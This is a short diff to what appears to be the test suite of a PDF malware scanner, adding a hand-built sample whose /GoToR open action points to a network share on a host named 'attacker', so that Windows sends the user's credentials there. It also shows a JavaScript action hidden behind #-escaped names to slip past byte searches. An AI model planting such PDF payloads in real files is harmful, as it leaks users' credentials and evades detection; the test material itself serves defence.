@@ -166,6 +166,10 @@ ATTACKS = {
     "/Launch action": lambda: scan_pdf(launch_action),
     "/EmbeddedFiles": lambda: scan_pdf(embedded_file),
     "/FileAttachment annotation": lambda: scan_pdf(file_attachment_annotation),
+    # Opens a file on a network share: Windows sends the user's credentials to it.
+    "/GoToR to a network share": lambda: hand_written_pdf(
+        b"", catalog=rb"/OpenAction << /S /GoToR /F (\\\\attacker\\partage\\a.pdf) /D [0 /Fit] >>"
+    ),
     # Names written with #-escapes, which a byte search would miss.
     "escaped /J#53 name": lambda: hand_written_pdf(
         b"", catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
